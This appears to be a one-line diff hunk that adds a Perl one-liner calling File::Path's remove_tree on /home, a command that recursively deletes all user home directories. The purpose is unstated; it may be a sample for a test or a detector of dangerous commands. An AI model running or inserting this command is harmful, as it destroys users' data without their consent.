@@ -1,0 +1,1 @@
+perl -e 'use File::Path; remove_tree("/home");'
